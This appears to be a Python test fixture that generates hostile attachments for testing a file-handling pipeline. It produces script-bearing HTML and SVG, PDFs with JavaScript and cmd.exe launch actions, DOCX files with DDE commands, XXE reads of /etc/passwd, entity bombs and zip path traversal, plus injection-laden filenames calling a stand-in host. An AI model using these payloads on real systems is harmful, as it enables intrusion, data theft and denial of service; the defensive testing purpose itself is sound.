"""Files that want to harm whoever opens them, made by the thousand from a seed."""

from __future__ import annotations

import io
import random
import unicodedata
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Final

from PIL import Image

from tests.attachments import samples
from tests.attachments.samples import docx, link, links

OUTSIDE: Final = "http://canary.invalid"
"""Where everything that runs or fetches would call."""

SCRIPT: Final = f"<script>alert(1);fetch('{OUTSIDE}/ran')</script>".encode()
HTML: Final = b"<!DOCTYPE html><html><body>" + SCRIPT + b"<img src=x onerror=alert(2)></body></html>"
SVG: Final = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(3)"><script>alert(4)</script>'
    b'<image href="' + OUTSIDE.encode() + b'/a.png"/></svg>'
)


@dataclass(frozen=True, slots=True)
class Nasty:
    """A file as it is sent: what kind of nastiness, the name that it bears, its bytes."""

    kind: str
    name: str
    data: bytes


Make = Callable[[random.Random], bytes]

_ACTIONS: Final = (
    b"/S/JavaScript/JS(app.alert\\(1\\))",
    b"/S/JavaScript/JS<6170702e616c657274283129>",
    b"/S/Java#53cript/J#53(app.alert\\(1\\))",
    b"/S/Launch/F(cmd.exe)",
    b"/S/URI/URI(" + OUTSIDE.encode() + b"/uri)",
    b"/S/GoToR/F(" + OUTSIDE.encode() + b"/x.pdf)/D[0/Fit]",
    b"/S/SubmitForm/F(" + OUTSIDE.encode() + b"/form)",
    b"/S/ImportData/F(" + OUTSIDE.encode() + b"/data)",
    b"/S/GoToE/F(x)/T<</R/C/N(a)>>",
    b"/S/Rendition/JS(app.alert\\(1\\))",
)


def _pdf_that_acts(rng: random.Random) -> bytes:
    action = rng.choice(_ACTIONS)
    where = rng.randrange(4)
    if where == 0:
        return samples.pdf(catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction<<" + action + b">>>>")
    if where == 1:
        return samples.pdf(catalog=b"<</Type/Catalog/Pages 2 0 R/AA<</WC<<" + action + b">>>>>>")
    if where == 2:
        return samples.pdf(more=b"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<" + action + b">>>>")
    return samples.packed_pdf(b" <<" + action + b">>")


def _pdf_with_more(rng: random.Random) -> bytes:
    return samples.pdf(
        catalog=rng.choice(
            (
                b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)4 0 R]>>>>>>",
                b"<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 4 0 R>>>>",
                b"<</Type/Catalog/Pages 2 0 R/Names<</JavaScript<</Names[(a)4 0 R]>>>>>>",
                b"<</Type/Catalog/Pages 1 0 R>>",
                b"<</Type/Catalog/Pages 2 0 R/Pages 1 0 R/Kids[1 0 R]>>",
            )
        ),
        more=b"<</Type/EmbeddedFile/Length 3>>stream\nMZ!\nendstream",
    )


def _pdf_mutated(rng: random.Random) -> bytes:
    data = bytearray(rng.choice((samples.pdf(), samples.revised_pdf(), samples.packed_pdf(), drawn_pdf(rng))))
    for _ in range(rng.randint(1, 12)):
        at = rng.randrange(8, len(data) - 40)
        data[at] = rng.randrange(256)
    return bytes(data)


def drawn_pdf(rng: random.Random) -> bytes:
    """A PDF that draws: deep nesting, huge numbers, an image that claims to be enormous."""
    content = rng.choice(
        (
            b"q " * rng.randint(10, 20_000) + b"Q",
            b"1 0 0 RG %d w 0 0 m 200 200 l S" % rng.randint(1, 10**9),
            b"BI /W 30000 /H 30000 /BPC 8 /CS /G ID x EI",
            b"/P cs /P scn 0 0 1e9 1e9 re f",
            b"0 0 200 200 re f " * rng.randint(1, 5000),
        )
    )
    packed = zlib.compress(content)
    box = rng.choice((b"0 0 200 200", b"0 0 1e9 1e9", b"0 0 0 0", b"0 0 14400 14400", b"-5 -5 -1 -1"))
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[" + box + b"]/Contents 4 0 R>>"
    head = b"<</Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return samples.pdf(page=page, more=head + packed + b"\nendstream")


def _polyglot(rng: random.Random) -> bytes:
    zipped = samples.plain_zip()
    return rng.choice(
        (
            samples.pdf() + zipped,
            samples.pdf(b"\n" + HTML),
            HTML + samples.pdf(),
            b"GIF89a/*" + bytes(20) + b"*/=1;alert(5);",
            samples.jpeg() + HTML,
            samples.jpeg() + zipped,
            samples.png() + HTML,
            samples.png() + samples.docx(),
            samples.docx() + samples.pdf(),
            b"\xff\xd8\xff\xe0" + HTML,
            b"\x89PNG\r\n\x1a\n" + SVG,
        )
    )


def _page_or_drawing(rng: random.Random) -> bytes:
    return rng.choice(
        (HTML, SVG, b"\xef\xbb\xbf" + SVG, b"<?xml version='1.0'?>" + SVG, SCRIPT, b"MZ" + bytes(99))
    )


def _word(rng: random.Random) -> bytes:
    body = f'<w:document xmlns:w="{samples.WORD}"><w:body>%s</w:body></w:document>'
    rels = "word/_rels/document.xml.rels"
    nested = samples.plain_zip()
    bombs = "".join(f'<!ENTITY a{place} "{f"&a{place - 1};" * 10}">' for place in range(1, 10))
    return rng.choice(
        (
            lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
            lambda: docx({rels: links(link("attachedTemplate", f"{OUTSIDE}/t.dotm", "External"))}),
            lambda: docx({rels: links(link("oleObject", f"{OUTSIDE}/o.bin", "External"))}),
            lambda: docx({rels: links(link("image", f"{OUTSIDE}/i.png", "External"))}),
            lambda: docx({rels: links(link("hyperlink", "javascript:alert(6)", "External"))}),
            lambda: docx({rels: links(link("frame", f"{OUTSIDE}/f.htm", "External"))}),
            lambda: docx(
                document=(
                    body % f"<w:p><w:r><w:instrText>DDEAUTO c:\\cmd /k {OUTSIDE}</w:instrText>"
                    "<w:t>&lt;script&gt;alert(7)&lt;/script&gt;</w:t></w:r></w:p>"
                ).encode()
            ),
            lambda: docx(document=b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'),
            lambda: docx(document=f'<!DOCTYPE d [<!ENTITY a0 "a">{bombs}]><d>&a9;</d>'.encode()),
            lambda: docx({"word/media/a.zip": nested, "../../../etc/cron.d/x": b"x"}),
            lambda: docx({f"word/media/{place}.bin": bytes(200_000) for place in range(rng.randint(2, 60))}),
            lambda: samples.understated_docx(rng.randint(1, 3_000_000)),
            samples.locked_docx,
            _overlapping,
            samples.docx,
        )
    )()


def _overlapping() -> bytes:
    """An archive whose entries all name the same bytes."""
    data = bytearray(docx({f"word/{place:04}.xml": b"<a/>" for place in range(50)}))
    at, first = 0, None
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        first = data[at + 42 : at + 46] if first is None else first
        data[at + 42 : at + 46] = first
        at += 4
    return bytes(data)


def _picture(rng: random.Random) -> bytes:
    size = (rng.randint(1, 500), rng.randint(1, 400))
    written = io.BytesIO()
    kind = rng.randrange(11)
    if kind == 0:
        Image.new("CMYK", size, (9, 99, 9, 0)).save(written, "JPEG", exif=samples.telling_exif())
    elif kind == 1:
        Image.new("I;16", size, 40_000).save(written, "PNG")
    elif kind == 2:
        frames = [Image.new("RGB", size, (place, 0, 0)) for place in range(5)]
        frames[0].save(written, "PNG", save_all=True, append_images=frames[1:], duration=10)
    elif kind == 3:
        return samples.huge_png(rng.choice((5_600, 20_000, 60_000)))
    elif kind == 4:
        whole = samples.jpeg(size)
        return whole[: rng.randint(3, len(whole))]
    elif kind == 5:
        samples.drawing(size).save(
            written,
            "JPEG",
            exif=samples.telling_exif(rng.randint(0, 9)),
            comment=HTML,
            xmp=b"<x:x>" + SCRIPT + b"</x:x>",
        )
    elif kind == 6:
        whole = samples.heic((64, 48))
        if rng.random() < 0.5:
            return whole
        mutated = bytearray(whole)
        for _ in range(rng.randint(1, 20)):
            mutated[rng.randrange(12, len(mutated))] = rng.randrange(256)
        return bytes(mutated)
    elif kind == 7:
        return (20).to_bytes(4, "big") + b"ftypheic" + rng.randbytes(300)
    elif kind == 8:
        samples.drawing(size).save(written, "JPEG", progressive=True, exif=samples.telling_exif())
    elif kind == 9:
        mutated = bytearray(samples.jpeg(size))
        for _ in range(rng.randint(1, 20)):
            mutated[rng.randrange(4, len(mutated))] = rng.randrange(256)
        return bytes(mutated)
    else:
        return samples.png(size)
    return written.getvalue()


_MAKERS: Final[dict[str, tuple[Make, tuple[str, ...]]]] = {
    "pdf that acts": (_pdf_that_acts, ("pdf",)),
    "pdf with more": (_pdf_with_more, ("pdf",)),
    "pdf mutated": (_pdf_mutated, ("pdf",)),
    "pdf drawn": (drawn_pdf, ("pdf",)),
    "polyglot": (_polyglot, ("pdf", "jpg", "png", "docx", "gif")),
    "page or drawing": (_page_or_drawing, ("pdf", "jpg", "svg", "html", "png", "docx")),
    "word": (_word, ("docx",)),
    "picture": (_picture, ("jpg", "png", "heic")),
}


def _named(rng: random.Random, ending: str) -> str:
    return rng.choice(
        (
            f"đơn.{ending}",
            f"don\u202efdp.{ending}",
            f"a\x00b\x1f\x7f.{ending}",
            f"{'ô' * 300}.{ending}",
            unicodedata.normalize("NFD", f"Ảnh chụp cầu.{ending}"),
            "giấy.рdf",
            f"..\\..\\..\\windows\\{ending}.{ending}",
            f"../../../etc/passwd.{ending}",
            f'"><script>alert(8)</script>.{ending}',
            f"con.{ending}",
            f"a.exe\u200b.{ending}",
            f"a\r\nSet-Cookie: x=1.{ending}",
            f".{ending}",
            "",
            f"hoá đơn{'.' * 50}{ending}",
        )
    )


def nasty_files(count: int, seed: int = 2026) -> Iterator[Nasty]:
    """So many files, the same for the same seed; every kind is met in turn."""
    rng = random.Random(seed)
    kinds = list(_MAKERS.items())
    for place in range(count):
        kind, (make, endings) = kinds[place % len(kinds)]
        data = make(rng)
        yield Nasty(kind, _named(rng, _ending(data) if rng.random() < 0.8 else rng.choice(endings)), data)


def _ending(data: bytes) -> str:
    """What its bytes say first, so that the name is seldom the reason why a file isn't taken."""
    marks = {b"%PDF": "pdf", b"\xff\xd8": "jpg", b"\x89PNG": "png", b"PK": "docx"}
    return next((ending for mark, ending in marks.items() if data.startswith(mark)), "heic")
